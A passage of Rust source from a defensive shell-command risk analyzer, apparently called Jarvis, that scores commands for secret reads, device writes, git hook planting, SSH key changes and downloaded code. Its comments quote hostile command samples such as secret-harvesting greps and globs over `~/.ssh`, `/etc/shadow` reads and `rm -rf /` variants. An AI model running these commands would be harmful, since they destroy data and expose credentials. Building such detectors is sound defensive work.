                    "has a script that cannot be read here, so what it runs or writes is not known",
                )
                .attend(),
            );
            own.writes = WriteTargets::Unknown;
        }
        let word = |text: &str| Word {
            raw: text.to_owned(),
            text: text.to_owned(),
            literal: true,
            skeleton: text.to_owned(),
            pattern: false,
        };
        for run in &script.runs {
            match run {
                Some(command) => {
                    findings.push(Finding::about(
                        label,
                        Effect::Exec,
                        70,
                        &format!(
                            "runs {} through the shell from its script",
                            code(&truncate(command, 60))
                        ),
                    ));
                    inners.push(Inner::ShellText {
                        text: word(command),
                        label: format!("{label} e"),
                        privileged: false,
                    });
                }
                None => findings.push(
                    Finding::about(
                        label,
                        Effect::Exec,
                        70,
                        "runs a command made at run time through the shell from its script",
                    )
                    .attend(),
                ),
            }
        }
        // A command the script makes at run time could be anything; a
        // literal one is judged above, and the shell the tool starts for it
        // is among the tool's helpers.
        if script.runs.iter().any(Option::is_none) {
            own.runs_unknown = true;
        }
        let written: Vec<Word> = script.writes.iter().map(|w| word(w)).collect();
        for w in &written {
            findings.push(Finding::about(
                label,
                Effect::Write,
                base_risk(Effect::Write),
                &format!("writes {} from its script", code(&truncate(&w.text, 60))),
            ));
        }
        self.scan_paths(
            &written,
            findings,
            PathUse {
                changes: true,
                device_data: true,
                contents: true,
            },
        );
        if !written.is_empty() {
            match &mut own.writes {
                WriteTargets::Paths { words, .. } => words.extend(written),
                WriteTargets::Nothing => {
                    own.writes = WriteTargets::Paths {
                        words: written,
                        entries: false,
                    }
                }
                WriteTargets::WorkingDirectory { paths, .. } => paths.extend(written),
                WriteTargets::Unknown => {}
            }
        }
        let read: Vec<Word> = script.reads.iter().map(|r| word(r)).collect();
        self.scan_paths(&read, findings, PathUse::READ);
        if script.writes_unknown {
            findings.push(
                Finding::about(
                    label,
                    Effect::Write,
                    60,
                    "writes from its script to a file named only at run time",
                )
                .attend(),
            );
            own.writes = WriteTargets::Unknown;
        }
        if script.reads_unknown {
            findings.push(
                Finding::about(
                    label,
                    Effect::Read,
                    50,
                    "reads from its script a file named only at run time, which could hold secrets",
                )
                .attend(),
            );
        }
        if script.environment {
            findings.push(
                Finding::about(
                    label,
                    Effect::Read,
                    50,
                    "reads environment variables from its script, and they can hold secrets",
                )
                .attend(),
            );
        }
        if script.from_file {
            findings.push(
                Finding::about(
                    label,
                    Effect::Exec,
                    60,
                    "takes its script, or code it includes, from a file that is not read here",
                )
                .attend(),
            );
            own.writes = WriteTargets::Unknown;
        }
        if script.unreadable {
            Vec::new()
        } else {
            script.not_paths
        }
    }

    /// A recursive read whose tree holds the places where services keep
    /// their secrets (`grep -r PASSWORD /srv`): the `.env` files and keys
    /// inside are read and printed like any named secret, though no
    /// operand names one. Operands only known at run time, or relative ones
    /// where the directory is not known, may be such a tree.
    fn bulk_read(&self, operands: &[Word], label: &str, findings: &mut Vec<Finding>) {
        let cwd = self.cwds.last().cloned().flatten();
        let starts: Vec<Option<String>> = if operands.iter().all(|w| w.text.starts_with('-')) {
            vec![cwd.clone()]
        } else {
            operands
                .iter()
                .filter(|w| !w.text.starts_with('-'))
                .map(|w| {
                    if w.literal && !w.pattern {
                        resolve(cwd.as_deref(), &w.text)
                    } else {
                        None
                    }
                })
                .collect()
        };
        let risky = starts.iter().find_map(|start| match start {
            None => Some("a directory known only at run time".to_owned()),
            Some(path) => TREES_HOLDING_SECRETS
                .iter()
                .find(|tree| holds_or_is_within(path, tree))
                .map(|_| code(path)),
        });
        if let Some(place) = risky {
            findings.push(
                Finding::about(
                    label,
                    Effect::Read,
                    70,
                    &format!(
                        "reads every file under {place}, where services keep {} files, keys and tokens, and prints what it finds",
                        code(".env")
                    ),
                )
                .attend(),
            );
        }
    }

    fn scan_paths<'w>(
        &self,
        args: impl IntoIterator<Item = &'w Word>,
        findings: &mut Vec<Finding>,
        how: PathUse,
    ) {
        for a in args {
            // `--file=/etc/shadow`, `if=/dev/sda`, `HEAD:secrets.yaml`,
            // `host:~/.ssh/id_rsa`: look at the value too.
            if a.text.contains('{') {
                for candidate in expand_braces(&a.text) {
                    self.scan_candidate(&candidate, a.pattern, findings, how);
                }
            } else {
                self.scan_candidate(&a.text, a.pattern, findings, how);
            }
            if a.pattern && !how.changes && how.contents {
                // `cd ~/.ssh && cat *`, `cat /h?me/*/.s?h/*`: a glob reads
                // what it matches where the host resolves it.
                let found = expand_braces(&a.text).into_iter().find_map(|t| {
                    let host = crate::paths::resolve_in_known_dirs(&t, &self.cwds, true);
                    host.paths
                        .iter()
                        .map(String::as_str)
                        .chain(host.elsewhere.iter().map(|e| e.rest.as_str()))
                        .chain(std::iter::once(t.as_str()))
                        .find_map(secret_glob)
                });
                if let Some(what) = found {
                    findings.push(
                        Finding::of_command(
                            Effect::Read,
                            70,
                            format!(
                                "reads files matching {}, {what}",
                                code(&truncate(&a.text, 40))
                            ),
                        )
                        .attend(),
                    );
                }
            }
        }
    }

    fn scan_candidate(&self, text: &str, glob: bool, findings: &mut Vec<Finding>, how: PathUse) {
        self.scan_path(text, glob, findings, how);
        for sep in ['=', ':'] {
            if let Some((_, v)) = text.split_once(sep) {
                self.scan_path(v, glob, findings, how);
            }
        }
    }

    /// Findings for one path word, judged as the host resolves it in every
    /// directory the line can be in ([`crate::paths`]): `/proc/self/root/etc/shadow`
    /// is `/etc/shadow`, `cd /etc/mysql && cat debian.cnf` reads
    /// `/etc/mysql/debian.cnf`, and a glob is judged by the worst path it
    /// can name.
    fn scan_path(&self, path: &str, glob: bool, findings: &mut Vec<Finding>, how: PathUse) {
        let writes = how.changes;
        let host = crate::paths::resolve_in_known_dirs(path, &self.cwds, glob);
        let mut readings: Vec<&str> = vec![path];
        for r in host
            .paths
            .iter()
            .map(String::as_str)
            .chain(host.elsewhere.iter().map(|e| e.rest.as_str()))
        {
            if !r.is_empty() && !readings.contains(&r) {
                readings.push(r);
            }
        }
        // A hook or config planted in `.git/` runs on a later, harmless-looking
        // `git commit`; writing there is never routine.
        if writes
            && readings
                .iter()
                .any(|p| p.contains(".git/") || p.ends_with(".git") || p.contains(".gitmodules"))
        {
            findings.push(
                Finding::of_command(
                    Effect::Exec,
                    75,
                    format!(
                        "writes inside {}, where a hook or config makes later git commands run programs",
                        code(&truncate(path, 60))
                    ),
                )
                .attend(),
            );
        }
        if writes && readings.iter().any(|p| p.contains("authorized_keys")) {
            findings.push(
                Finding::of_command(
                    Effect::Privilege,
                    80,
                    format!(
                        "changes {}, which decides who may log in over SSH",
                        code(&truncate(path, 60))
                    ),
                )
                .attend(),
            );
        }
        let rank = |c: &PathClass| match c {
            PathClass::BlockDevice | PathClass::KernelControl => 0,
            PathClass::Secret => 1,
            PathClass::NetworkDevice => 2,
            PathClass::System => 3,
        };
        let Some((reading, class, what)) = readings
            .iter()
            .enumerate()
            .filter_map(|(i, r)| {
                // As written, a word is only a glob where the shell says so.
                let classified = if i == 0 {
                    self.kb.classify_reading(r, glob)
                } else {
                    self.kb.classify_reading(r, host.glob)
                };
                classified.map(|(c, w)| (*r, c, w))
            })
            .min_by_key(|(_, c, _)| rank(c))
        else {
            return;
        };
        let written = truncate(path, 60);
        let path = if reading == path {
            code(&written)
        } else {
            format!(
                "{} ({} on the host)",
                code(&written),
                code(&truncate(reading, 60))
            )
        };
        let f = match (class, writes) {
            // Where a secret lies is no secret: `ls -la .env`.
            (PathClass::Secret, false) if !how.contents => return,
            (PathClass::Secret, _) => Finding::of_command(
                Effect::Read,
                70,
                format!("touches {path}, which holds secrets ({what})"),
            )
            .attend(),
            (PathClass::System, true) => {
                Finding::of_command(Effect::Write, 70, format!("changes {path} ({what})"))
            }
            (PathClass::System, false) => return,
            (PathClass::BlockDevice, true) => Finding::of_command(
                Effect::Delete,
                100,
                format!("writes the raw device {path} ({what}), destroying what is on it"),
            )
            .attend(),
            (PathClass::BlockDevice, false) if !how.device_data => return,
            (PathClass::BlockDevice, false) => Finding::of_command(
                Effect::Read,
                65,
                format!("reads the raw device {path} ({what}), secrets and all"),
            )
            .attend(),
            (PathClass::KernelControl, true) => Finding::of_command(
                Effect::Service,
                100,
                format!("writes {path} ({what}), which acts at once"),
            )
            .attend(),
            (PathClass::KernelControl, false) => return,
            // Raw sockets from the shell are how reverse shells are made.
            (PathClass::NetworkDevice, _) => Finding::of_command(
                Effect::Network,
                70,
                format!("opens a raw network connection through {path}"),
            )
            .attend(),
        };
        findings.push(f);
    }

    /// Arguments of a program the knowledge base does not know: judged by
    /// what they reveal.
    fn scan_args(&self, args: &[Word], program: Option<&str>, findings: &mut Vec<Finding>) {
        let said = |effect: Effect, risk: u8, rest: String| match program {
            Some(p) => Finding::about(p, effect, risk, &rest),
            None => Finding::new(effect, risk, format!("the program {rest}")),
        };
        for a in args {
            let t = a.text.as_str();
            let base = basename(t);
            if SHELL_NAMES.contains(&base) && (t.contains('/') || SHELL_NAMES.contains(&t)) {
                findings.push(said(
                    Effect::Exec,
                    70,
                    format!("is passed a shell ({})", code(t)),
                ));
            }
            if looks_like_remote_address(t) {
                findings.push(said(
                    Effect::Network,
                    base_risk(Effect::Network),
                    format!("is given a network address ({})", code(&truncate(t, 60))),
                ));
            }
            if looks_like_shell_code(t) {
                findings.push(said(
                    Effect::Exec,
                    70,
                    format!(
                        "is given what looks like shell code ({})",
                        code(&truncate(t, 60))
                    ),
                ));
            }
            if t.starts_with("/etc/")
                || t.starts_with("/dev/")
                || t.starts_with("/boot")
                || t.starts_with("/proc/sys")
            {
                findings.push(said(
                    Effect::Unknown,
                    55,
                    format!("is given the system path {}", code(&truncate(t, 60))),
                ));
            }
        }
        self.scan_paths(
            args,
            findings,
            PathUse {
                changes: true,
                device_data: true,
                contents: true,
            },
        );
    }
}

/// How a command uses the paths it is given.
#[derive(Clone, Copy)]
struct PathUse {
    /// It may change them.
    changes: bool,
    /// Reading a device means reading its data, not just its metadata.
    device_data: bool,
    /// It reads what the files hold, not only their names and metadata.
    contents: bool,
}

impl PathUse {
    const READ: PathUse = PathUse {
        changes: false,
        device_data: true,
        contents: true,
    };
}

/// What a shell or interpreter would read on its standard input.
#[derive(Clone)]
enum StdinSource {
    Nothing,
    Text(Word, String),
    Network(String),
    /// From where, and the words of the pipeline's earlier commands.
    Unknown(String, Vec<Vec<Word>>),
}

/// Walks one program's knowledge tree over its arguments.
struct Walk<'a> {
    /// An option the knowledge base does not know was seen; it may have
    /// taken the next word as its value.
    unknown_option: Option<String>,
    /// A flag whose effects replace the current node's own (`top -b`).
    replaced: Option<(Vec<Effect>, Option<String>)>,
    findings: &'a mut Vec<Finding>,
    positionals: &'a mut Vec<Option<String>>,
    inners: &'a mut Vec<Inner>,
    stdin: &'a StdinSource,
    gathered: &'a mut Gathered,
    /// Every option each tool accepts; a node with a complete table knows
    /// all its options.
    tables: &'a OptionTables,
}

/// What a walk learns for the kernel's ruleset: the helpers of every node
/// it entered, and where the last node's writes land.
#[derive(Default)]
struct Gathered {
    helpers: Vec<String>,
    /// The positional words of the node reached.
    operands: Vec<Word>,
    /// Values of options that write (`sort -o FILE`).
    values: Vec<Word>,
    /// Values of options that name a file read (`grep -f FILE`), judged
    /// as contents read even by a tool that otherwise reads only names.
    read_values: Vec<Word>,
    /// Values of directory options (`git -C DIR`).
    directories: Vec<Word>,
    /// The node's own effects, a flag without a value or an argument
    /// pattern write or delete: the operands are written.
    operand_writes: bool,
    /// Where the reached node's writes land.
    writes: Writes,
    /// Something runs code the walk did not unwrap.
    runs_unknown: bool,
    /// A node entered uses the network to read.
    uses_network: bool,
    /// It reads every file under its operands (`grep -r`, `rg`).
    recursive: bool,
    /// A flag keeps what the files hold out of its output (`grep -l`).
    contents_hidden: bool,
}

impl Gathered {
    fn finish(self) -> Own {
        let any_write = self.operand_writes || !self.values.is_empty();
        let operands = || {
            let mut words = self.values.clone();
            if self.operand_writes {
                words.extend(self.operands.iter().cloned());
            }
            words
        };
        let writes = match self.writes {
            _ if !any_write => WriteTargets::Nothing,
            Writes::Unknown => WriteTargets::Unknown,
            // Operands that write, and none given: they come at run time
            // (`xargs rm`).
            Writes::Operands | Writes::Entries
                if self.operand_writes && self.operands.is_empty() =>
            {
                WriteTargets::Unknown
            }
            Writes::Operands | Writes::Entries => WriteTargets::Paths {
                words: operands(),
                entries: self.writes == Writes::Entries,
            },
            Writes::WorkingDirectory => WriteTargets::WorkingDirectory {
                directories: self.directories.clone(),
                paths: operands(),
            },
            // A tool that writes nothing of its own still writes the file
            // an option names (`ss -D FILE`).
            Writes::Nothing if !self.values.is_empty() => WriteTargets::Paths {
                words: self.values.clone(),
                entries: false,
            },
            Writes::Nothing => WriteTargets::Nothing,
        };
        Own {
            helpers: self.helpers,
            writes,
            runs_unknown: self.runs_unknown,
            uses_network: self.uses_network,
        }
    }
}

impl Walk<'_> {
    fn finding(
        &mut self,
        effects: &[Effect],
        why: Option<&str>,
        floor: Option<u8>,
        fallback: &str,
    ) {
        for &e in effects {
            let risk = floor.unwrap_or(0).max(base_risk(e));
            self.findings.push(match why {
                Some(w) => Finding::about(fallback, e, risk, w),
                None => Finding::stock_phrase(fallback, e, risk),
            });
        }
    }

    fn node(&mut self, node: &Node, args: &[Word], label: &str) {
        self.replaced = None;
        self.gathered.recursive |= node.recursive;
        self.gathered.helpers.extend(node.helpers.iter().cloned());
        self.gathered.writes = node.writes;
        self.gathered.uses_network |= node.uses_network;
        self.gathered.operands.clear();
        // `python3 --version`: nothing but harmless flags.
        if !args.is_empty()
            && !node.safe_alone.is_empty()
            && args
                .iter()
                .all(|a| a.literal && node.safe_alone.contains(&a.text))
        {
            self.finding(
                &[Effect::Read],
                Some("only prints its version or help"),
                None,
                label,
            );
            return;
        }
        let mut i = 0;
        let mut options_done = false;
        let mut shell_command_mode = false;
        let shell_stdin = node.runs == Some(Runs::Shell)
            && args.iter().any(|a| {
                a.literal
                    && a.text.starts_with('-')
                    && !a.text.starts_with("--")
                    && a.text[1..].contains('s')
            });
        let mut no_run = false;
        let mut positional_count = 0;
        let mut script_file: Option<&Word> = None;
        let mut inline_code = false;
        while i < args.len() {
            let a = &args[i];
            let t = a.text.as_str();
            if !options_done && a.literal && t == "--" {
                options_done = true;
                i += 1;
                continue;
            }
            if !options_done && !a.literal && (a.skeleton.is_empty() || a.skeleton.starts_with('-'))
            {
                // `X=-delete; find / $X`: a word only known at run time may
                // turn out to be any option, including the dangerous ones.
                self.dynamic_option(node, a, label);
            }
            if !options_done && t.starts_with('-') && t.len() > 1 {
                i += self.option(
                    node,
                    args,
                    i,
                    label,
                    &mut shell_command_mode,
                    &mut no_run,
                    &mut inline_code,
                );
                continue;
            }
            // A positional.
            match node.runs {
                Some(Runs::Rest | Runs::Applet | Runs::RestAsShell) if !no_run => {
                    if positional_count < node.skip {
                        positional_count += 1;
                        self.positionals.push(a.literal.then(|| t.to_owned()));
                        i += 1;
                        continue;
                    }
                    let rest = &args[i..];
                    self.inner_rest(node, rest, label);
                    self.args(node, &args[..i], label);
                    return;
                }
                Some(Runs::Shell) if !no_run => {
                    if shell_command_mode {
                        self.inners.push(Inner::ShellText {
                            text: a.clone(),
                            label: format!("{label} -c"),
                            privileged: false,
                        });
                        self.effects_of(node, label);
                        return;
                    }
                    // `bash -s ARGS` and `bash /dev/stdin` read the script
                    // from standard input; the words are its arguments.
                    if !shell_stdin && !matches!(t, "/dev/stdin" | "-") {
                        script_file = Some(a);
                    }
                    break;
                }
                Some(Runs::Interpreter) if !no_run => {
                    if !inline_code {
                        script_file = Some(a);
                    }
                    break;
                }
                _ => {}
            }
            if positional_count == 0 && !node.sub.is_empty() {
                if let Some(sub) = a.literal.then(|| node.sub.get(t)).flatten() {
                    self.positionals.push(Some(t.to_owned()));
                    self.args(node, &args[..i], label);
                    let sub_label = format!("{label} {t}");
                    self.node(sub, &args[i + 1..], &sub_label);
                    return;
                }
                // Not a listed subcommand: unless the knowledge base says what
                // such words mean, it may be a plugin or an alias.
                self.gathered.operands.push(a.clone());
                let sub_label = format!("{label} {}", truncate(t, 40));
                match &node.other {
                    Some(effects) => {
                        for &e in effects {
                            self.findings.push(match &node.why {
                                Some(w) => Finding::about(label, e, base_risk(e), w),
                                None => Finding::stock_phrase(&sub_label, e, base_risk(e)),
                            });
                        }
                    }
                    None => self.findings.push(Finding::about(
                        &sub_label,
                        Effect::Unknown,
                        base_risk(Effect::Unknown),
                        "is not a subcommand the knowledge base knows; it may be an alias or plugin",
                    )),
                }
                self.positionals.push(a.literal.then(|| t.to_owned()));
                i += 1;
                self.rest_positionals(&args[i..]);
                self.args(node, args, label);
                return;
            }
            positional_count += 1;
            self.positionals.push(a.literal.then(|| t.to_owned()));
            // `chmod MODE FILE`: the first `skip` operands name no file.
            if node.runs.is_some() || positional_count > node.skip {
                self.gathered.operands.push(a.clone());
            }
            i += 1;
        }
        self.effects_of(node, label);
        self.args(node, args, label);
        match node.runs {
            Some(Runs::Shell) if !no_run && !shell_command_mode => {
                self.stdin_code(script_file, label, true)
            }
            Some(Runs::Interpreter) if !no_run && !inline_code => {
                self.stdin_code(script_file, label, false)
            }
            Some(Runs::Interpreter) if inline_code => {
                self.findings.push(
                    Finding::about(
                        label,
                        Effect::Exec,
                        70,
                        "runs inline code, which Jarvis cannot read as shell",
                    )
                    .attend(),
                );
            }
            Some(Runs::Shell) if shell_command_mode => {
                // `-c` with no string: the shell errors out.
            }
            _ => {}
        }
    }

    fn rest_positionals(&mut self, rest: &[Word]) {
        for a in rest.iter().filter(|a| !a.text.starts_with('-')) {
            self.gathered.operands.push(a.clone());
            self.positionals.push(a.literal.then(|| a.text.clone()));
        }
    }

    fn effects_of(&mut self, node: &Node, label: &str) {
        if let Some((effects, why)) = self.replaced.take() {
            self.gather(&effects, node.runs.is_some(), false);
            self.finding(&effects, why.as_deref(), None, label);
            return;
        }
        let effects = if node.effects.is_empty() && node.runs.is_none() {
            vec![Effect::Unknown]
        } else {
            node.effects.clone()
        };
        self.gather(&effects, node.runs.is_some(), false);
        let why = node.why.as_deref();
        self.finding(&effects, why, node.risk, label);
    }

    /// Notes what effects mean for the kernel's ruleset. `unwrapped`: an
    /// exec effect is the program the walk hands on as a command of its
    /// own. `value`: the effects are an option's whose value is the file
    /// it writes; otherwise what is written is the operands.
    fn gather(&mut self, effects: &[Effect], unwrapped: bool, value: bool) {
        let g = &mut *self.gathered;
        if effects
            .iter()
            .any(|e| matches!(e, Effect::Write | Effect::Delete))
            && !value
        {
            g.operand_writes = true;
        }
        g.runs_unknown |= effects.contains(&Effect::Exec) && !unwrapped;
    }

    fn stdin_code(&mut self, script_file: Option<&Word>, label: &str, shell: bool) {
        if let Some(f) = script_file {
            self.findings.push(
                Finding::about(
                    label,
                    Effect::Exec,
                    70,
                    &format!(
                        "runs the script {}, whose contents are not known here",
                        code(&truncate(&f.text, 60))
                    ),
                )
                .attend(),
            );
            return;
        }
        match self.stdin {
            StdinSource::Text(w, source) if shell => {
                self.inners.push(Inner::ShellText {
                    text: w.clone(),
                    label: format!("{label} reading {source}"),
                    privileged: false,
                });
            }
            StdinSource::Text(_, source) => self.findings.push(
                Finding::about(
                    label,
                    Effect::Exec,
                    70,
                    &format!("runs code from {source}, which Jarvis cannot read as shell"),
                )
                .attend(),
            ),
            StdinSource::Network(fetcher) => self.findings.push(
                Finding::about(
                    label,
                    Effect::Exec,
                    95,
                    &format!("runs whatever {} downloads", code(fetcher)),
                )
                .attend(),
            ),
            StdinSource::Unknown(source, _) => self.findings.push(
                Finding::about(
                    label,
                    Effect::Exec,
                    80,
                    &format!("runs code it reads from {source}"),
                )
                .attend(),
            ),
            StdinSource::Nothing => self.findings.push(
                Finding::about(
                    label,
                    Effect::Interactive,
                    70,
                    "with no script starts an interactive session",
                )
                .attend(),
            ),
        }
    }

    fn inner_rest(&mut self, node: &Node, rest: &[Word], label: &str) {
        self.effects_of(node, label);
        let privileged = node.effects.contains(&Effect::Privilege);
        match node.runs {
            Some(Runs::RestAsShell) => {
                let joined = Word::join(rest);
                self.inners.push(Inner::ShellText {
                    text: joined,
                    label: label.to_owned(),
                    privileged,
                });
            }
            _ if self.unknown_option.is_some() && rest.len() > 1 => {
                // `sudo --new-option VALUE rm -rf /`: if the unknown option
                // took a value, the program is one word further on. Both
                // readings are judged, so neither can hide a command.
                let option = self.unknown_option.clone().unwrap_or_default();
                self.findings.push(Finding::about(
                    label,
                    Effect::Unknown,
                    base_risk(Effect::Unknown),
                    &format!(
                        "is given the option {}, which the knowledge base does not know; both readings are judged",
                        code(&truncate(&option, 40))
                    ),
                ));
                for argv in [rest.to_vec(), rest[1..].to_vec()] {
                    self.inners.push(Inner::Argv {
                        argv,
                        label: label.to_owned(),
                        privileged,
                    });
                }
            }
            // `echo / | xargs rm -rf`: what xargs reads becomes arguments.
            _ if node.stdin_args && matches!(self.stdin, StdinSource::Text(..)) => {
                let mut argv = rest.to_vec();
                if let StdinSource::Text(w, _) = self.stdin {
                    argv.extend(w.text.split_whitespace().map(Word::literal));
                }
                self.inners.push(Inner::Argv {
                    argv,
                    label: label.to_owned(),
                    privileged,
                });
            }
            _ => self.inners.push(Inner::Argv {
                argv: rest.to_vec(),
                label: label.to_owned(),
                privileged,
            }),
        }
    }

    /// Handles the option at `args[i]`; returns how many words it used.
    /// A node whose option table is complete knows every option its tool
    /// accepts, so one it does not list is unknown; other nodes read
    /// options by the hand-written knowledge alone.
    #[allow(clippy::too_many_arguments)]
    fn option(
        &mut self,
        node: &Node,
        args: &[Word],
        i: usize,
        label: &str,
        shell_command_mode: &mut bool,
        no_run: &mut bool,
        inline_code: &mut bool,
    ) -> usize {
        let tables = self.tables;
        match tables.get(label).filter(|t| t.complete) {
            Some(table) => self.table_option(
                node,
                table,
                args,
                i,
                label,
                shell_command_mode,
                no_run,
                inline_code,
            ),
            None => self.hand_option(
                node,
                args,
                i,
                &args[i],
                label,
                shell_command_mode,
                no_run,
                inline_code,
            ),
        }
    }

    /// The option at `args[i]` read against the tool's complete table: the
    /// tool's abbreviation rule, clusters and attached values decide which
    /// options it names and which words are their values. The hand-written
    /// knowledge stays authoritative for the options it describes.
    #[allow(clippy::too_many_arguments)]
    fn table_option(
        &mut self,
        node: &Node,
        table: &OptionTable,
        args: &[Word],
        i: usize,
        label: &str,
        shell_command_mode: &mut bool,
        no_run: &mut bool,
        inline_code: &mut bool,
    ) -> usize {
        // A word only partly known at run time (`-$X`) was judged as any
        // option by `dynamic_option`; its written part is read here.
        let a = &args[i];
        let parsed = table.parse(&a.text, i + 1 < args.len());
        let by_hand = |index: &usize| {
            table
                .option(*index)
                .is_some_and(|o| o.names.iter().any(|n| knows_by_hand(node, n)))
        };
        let mut used = parsed.used;
        if parsed
            .items
            .iter()
            .any(|it| it.option.as_ref().is_ok_and(by_hand))
        {
            let word = Word {
                text: spelt_out(&a.text, &parsed),
                ..a.clone()
            };
            let hand = self.hand_option(
                node,
                args,
                i,
                &word,
                label,
                shell_command_mode,
                no_run,
                inline_code,
            );
            used = used.max(hand);
        }
        for item in &parsed.items {
            let index = match &item.option {
                Ok(index) if by_hand(index) => continue,
                Ok(index) => *index,
                Err(why) => {
                    let written = format!("{label} {}", truncate(&item.spelling, 40));
                    let why = match why {
                        Unlisted::Unknown => format!(
                            "is no option of {} ({}) that the knowledge base lists, so what it does is unknown",
                            code(label),
                            table.version
                        ),
                        Unlisted::Ambiguous(names) => format!(
                            "abbreviates several options of {} ({}): {}",
                            code(label),
                            table.version,
                            names.iter().map(|n| code(n)).collect::<Vec<_>>().join(", ")
                        ),
                    };
                    self.findings
                        .push(Finding::about(&written, Effect::Unknown, 50, &why).attend());
                    self.unknown_option = Some(a.text.clone());
                    continue;
                }
            };
            let Some(class) = table.option(index).map(|o| o.class) else {
                continue;
            };
            let value = match &item.value {
                Some(ValueAt::Attached(v)) => Some(Word {
                    text: v.clone(),
                    ..a.clone()
                }),
                Some(ValueAt::Next) => args.get(i + 1).cloned(),
                None => None,
            };
            self.table_class(class, &item.spelling, value, table, label);
        }
        used.min(args.len() - i)
    }

    /// The findings of an option by its table class.
    fn table_class(
        &mut self,
        class: OptionClass,
        spelling: &str,
        value: Option<Word>,
        table: &OptionTable,
        label: &str,
    ) {
        let shown = format!("{label} {spelling}");
        let said =
            |effect: Effect, risk: u8, rest: &str| Finding::about(&shown, effect, risk, rest);
        match class {
            OptionClass::None => {}
            OptionClass::ReadsValue => match value {
                Some(v) if !v.literal => self.findings.push(
                    said(
                        Effect::Read,
                        60,
                        &format!(
                            "reads {}, a file only known at run time",
                            code(&truncate(&v.raw, 40))
                        ),
                    )
                    .attend(),
                ),
                Some(v) => self.gathered.read_values.push(v),
                None => {}
            },
            OptionClass::WritesValue => {
                let what = value.as_ref().map_or_else(String::new, |v| {
                    format!(" {}", code(&truncate(&v.text, 60)))
                });
                self.findings.push(said(
                    Effect::Write,
                    base_risk(Effect::Write),
                    &format!("writes the file{what} it names"),
                ));
                self.gather(&[Effect::Write], false, true);
                if let Some(v) = value {
                    self.gathered.values.push(v);
                }
            }
            OptionClass::Runs => {
                self.findings
                    .push(said(Effect::Exec, 70, "runs a program or code it is given").attend());
                self.gathered.runs_unknown = true;
            }
            OptionClass::Network => self.findings.push(said(
                Effect::Network,
                base_risk(Effect::Network),
                "talks over the network",
            )),
            OptionClass::Secrets => self
                .findings
                .push(said(Effect::Read, 70, "prints secrets").attend()),
            OptionClass::Changes => {
                self.findings
                    .push(said(Effect::Write, 60, "changes the state of the system"));
                self.gathered.operand_writes = true;
                self.gathered.writes = Writes::Unknown;
            }
            OptionClass::Unknown => self.findings.push(
                said(
                    Effect::Unknown,
                    50,
                    &format!(
                        "is an option of {} ({}) whose effect nobody has reviewed",
                        code(label),
                        table.version
                    ),
                )
                .attend(),
            ),
        }
    }

    /// The option at `args[i]` read by the hand-written knowledge alone;
    /// `a` is the word as written, or as the tool's table spelt it out.
    #[allow(clippy::too_many_arguments)]
    fn hand_option(
        &mut self,
        node: &Node,
        args: &[Word],
        i: usize,
        a: &Word,
        label: &str,
        shell_command_mode: &mut bool,
        no_run: &mut bool,
        inline_code: &mut bool,
    ) -> usize {
        // `--rot` is `--rotate` to a tool that parses with getopt_long: an
        // abbreviation is judged as the option it stands for.
        let expanded = expand_long_option(node, &a.text);
        let t = expanded.as_deref().unwrap_or(&a.text);
        let next = args.get(i + 1);
        if node.no_run_options.iter().any(|o| o == t) {
            *no_run = true;
        }
        for o in &node.directory_options {
            let (dir, used) = if t == o {
                (next.cloned(), 2)
            } else if let Some(v) = t.strip_prefix(o.as_str()).and_then(|rest| {
                if o.starts_with("--") {
                    rest.strip_prefix('=')
                } else {
                    Some(rest)
                }
            }) {
                (
                    Some(Word {
                        text: v.to_owned(),
                        ..a.clone()
                    }),
                    1,
                )
            } else {
                continue;
            };
            if let Some(d) = dir {
                self.gathered.directories.push(d);
            }
            self.flag(node, o, None, label, inline_code);
            return used.min(args.len() - i);
        }
        // `--name=value`
        if let Some((name, value)) = t.split_once('=').filter(|_| t.starts_with("--")) {
            let v = Word {
                text: value.to_owned(),
                ..a.clone()
            };
            self.flag(node, name, Some(&v), label, inline_code);
            return 1;
        }
        // An exact spelling: `-exec`, `--recursive`, `-r`.
        if let Some(flag) = node.flags.iter().find(|f| f.names.iter().any(|n| n == t)) {
            if flag.runs == Some(Runs::UntilTerminator) {
                let end = args[i + 1..]
                    .iter()
                    .position(|w| matches!(w.text.as_str(), ";" | "+"))
                    .map_or(args.len(), |p| i + 1 + p);
                let argv = args[i + 1..end].to_vec();
                self.flag_findings(flag, t, label);
                self.inners.push(Inner::Argv {
                    argv,
                    label: format!("{label} {t}"),
                    privileged: false,
                });
                return end + 1 - i;
            }
            if flag.value {
                self.flag(node, t, next, label, inline_code);
                return 2;
            }
            self.flag(node, t, None, label, inline_code);
            if node.command_options.iter().any(|o| o == t) {
                *shell_command_mode = true;
            }
            return 1;
        }
        if node.value_options.iter().any(|o| o == t) {
            self.flag(node, t, next, label, inline_code);
            return 2;
        }
        if node.command_options.iter().any(|o| o == t) {
            *shell_command_mode = true;
            *inline_code |= node.runs == Some(Runs::Interpreter);
            return 1;
        }
        // `-rf`, `-uroot`, `-xc`: single-dash clusters of short options.
        if node.combined_short && !t.starts_with("--") && t.len() > 2 {
            let chars: Vec<char> = t[1..].chars().collect();
            for (k, c) in chars.iter().enumerate() {
                let short = format!("-{c}");
                if node.command_options.contains(&short) {
                    *shell_command_mode = true;
                }
                if node.no_run_options.contains(&short) {
                    *no_run = true;
                }
                let takes_value = node.value_options.contains(&short)
                    || node
                        .flags
                        .iter()
                        .any(|f| f.value && f.names.contains(&short));
                if takes_value {
                    let attached: String = chars[k + 1..].iter().collect();
                    if attached.is_empty() {
                        self.flag(node, &short, next, label, inline_code);
                        return 2;
                    }
                    let v = Word {
                        text: attached,
                        ..a.clone()
                    };
                    self.flag(node, &short, Some(&v), label, inline_code);
                    return 1;
                }
                self.flag(node, &short, None, label, inline_code);
            }
            return 1;
        }
        if !node.flags.iter().any(|f| f.names.iter().any(|n| n == t)) {
            self.unknown_option = Some(t.to_owned());
        }
        self.flag(node, t, None, label, inline_code);
        1
    }

    fn flag(
        &mut self,
        node: &Node,
        name: &str,
        value: Option<&Word>,
        label: &str,
        inline_code: &mut bool,
    ) {
        if node.runs == Some(Runs::Interpreter) && node.command_options.iter().any(|o| o == name) {
            *inline_code = true;
        }
        for flag in node
            .flags
            .iter()
            .filter(|f| f.names.iter().any(|n| n == name))
        {
            if let Some(re) = &flag.value_regex {
                match value {
                    Some(v) if re.is_match(&v.text) => {}
                    // A value only known at run time may be the dangerous one.
                    Some(v) if !v.literal => {}
                    _ => continue,
                }
            }
            self.gathered.recursive |= flag.recursive;
            self.gathered.contents_hidden |= flag.contents_hidden;
            if !flag.replaces {
                if flag.writes_value
                    && let Some(v) = value
                {
